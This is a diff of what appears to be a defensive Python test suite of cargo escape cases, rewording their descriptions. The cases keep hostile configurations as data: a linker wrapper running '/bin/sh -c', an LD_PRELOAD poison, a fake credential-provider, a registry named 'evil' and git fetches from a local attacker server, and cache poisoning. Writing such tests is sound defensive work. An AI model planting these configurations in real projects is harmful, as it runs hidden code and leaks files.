@@ -60,7 +60,7 @@ CASES = (
     ),
     _cargo_case(
         "config-linker",
-        "have the linker's driver run a shell command",
+        "make the linker's driver run a shell command",
         unseen("file", "home"),
         config=f'[build]\nrustflags = ["-C", "link-arg=-wrapper", "-C", "link-arg=/bin/sh,-c,{_LEAK}"]\n',
         command="cargo build",
@@ -73,28 +73,28 @@ CASES = (
     ),
     _cargo_case(
         "config-alias",
-        "give an offered command another meaning by an alias",
+        "redefine an offered command with an alias",
         unseen("library"),
         config='[alias]\nb = "run --manifest-path @OUT@/stolen/Cargo.toml"\nbuild = "run --manifest-path @OUT@/stolen/Cargo.toml"\n',
         command="cargo b",
     ),
     _cargo_case(
         "config-env",
-        "set variables of the compiler and the linker, to have their files written elsewhere",
+        "set variables that make the compiler and the linker write elsewhere",
         both(_folder_still("link"), _honest_afterwards),
         config='[env]\nTMPDIR = { value = "@OUT@/link", force = true }\nLD_PRELOAD = "/nowhere/poison.so"\n',
         command="cargo build",
     ),
     _cargo_case(
         "config-bootstrap",
-        "unlock unstable flags with RUSTC_BOOTSTRAP and have the compiler write elsewhere",
+        "unlock unstable flags with RUSTC_BOOTSTRAP and make the compiler write elsewhere",
         untouched("mir"),
         config='[env]\nRUSTC_BOOTSTRAP = "1"\n[build]\nrustflags = ["-Zdump-mir=all", "-Zdump-mir-dir=@OUT@/mir"]\n',
         command="cargo build",
     ),
     _cargo_case(
         "config-rustflags",
-        "have the compiler write its output elsewhere",
+        "make the compiler write its output elsewhere",
         both(untouched("emitted"), untouched("incremental")),
         config='[build]\nrustflags = ["--emit=obj=@OUT@/emitted", "-Cincremental=@OUT@/incremental"]\n',
         command="cargo build",
@@ -108,7 +108,7 @@ CASES = (
     ),
     _cargo_case(
         "config-source",
-        "take dependencies from a folder elsewhere by [source]",
+        "take dependencies from a folder elsewhere, with [source]",
         unseen("vendor"),
         main=_STOLEN,
         manifest=MANIFEST + '[dependencies]\nstolen = "1"\n',
@@ -123,7 +123,7 @@ CASES = (
     ),
     _cargo_case(
         "config-credentials",
-        "have cargo run a program to get credentials",
+        "make cargo run a program to get credentials",
         both(_nothing_ran, unheard("GET ")),
         manifest=MANIFEST + '[dependencies]\nstolen = { version = "1", registry = "evil" }\n',
         config='[registries.evil]\nindex = "sparse+http://127.0.0.1:@PORT@/"\ncredential-provider = ["@OUT@/fake-rustc"]\n'
@@ -147,7 +147,7 @@ CASES = (
     ),
     _cargo_case(
         "dependency-network",
-        "make cargo fetch from a server of the attacker's, as registry and as repository",
+        "make cargo fetch from the attacker's server, as a registry and as a repository",
         unheard("connected"),
         manifest=MANIFEST + '[dependencies]\nstolen = { git = "http://127.0.0.1:@PORT@/repository.git" }\n',
         config="[net]\noffline = false\n",
@@ -155,7 +155,7 @@ CASES = (
     ),
     _cargo_case(
         "dependency-patch",
-        "replace a dependency by a crate elsewhere with [patch]",
+        "replace a dependency with a crate elsewhere, with [patch]",
         unseen("library"),
         main=_STOLEN,
         manifest=MANIFEST + '[dependencies]\nstolen = "1"\n[patch.crates-io]\nstolen = { path = "@OUT@/stolen" }\n',
@@ -169,7 +169,7 @@ CASES = (
     ),
     _cargo_case(
         "workspace-members",
-        "make crates elsewhere members of a workspace of its own",
+        "make crates elsewhere members of its own workspace",
         untouched("stolen/Cargo.lock"),
         manifest=MANIFEST + '[workspace]\nmembers = ["@OUT@/stolen"]\n',
         main=HELLO,
@@ -177,13 +177,13 @@ CASES = (
     ),
     _cargo_case(
         "link-response-file",
-        "have the linker read a file as its arguments, and quote them",
+        "make the linker read a file as arguments and quote them",
         unseen("file"),
         command='cargo rustc -- -C "link-arg=-Wl,@@OUT@/words"',
     ),
     _cargo_case(
         "link-embed",
-        "have the linker put a file from elsewhere into the program as data, and print it",
+        "make the linker embed a file from elsewhere in the program, and print it",
         unseen("file"),
         main="""
         extern "C" { static _binary_@SYMBOL@_start: [u8; 29]; }
@@ -193,13 +193,13 @@ CASES = (
     ),
     _cargo_case(
         "link-output",
-        "have the linker write elsewhere",
+        "make the linker write elsewhere",
         untouched("linked"),
         command='cargo rustc -- -C "link-args=-o @OUT@/linked"',
     ),
     Case(
         "poison-seed",
-        "change what cargo remembers of the compiler, for the next run",
+        "change what cargo has cached about the compiler, for the next run",
         _honest_afterwards,
         program("""
             for path in ["target/.rustc_info.json", "../home/.cargo/.global-cache", "../home/.cargo/config.toml",
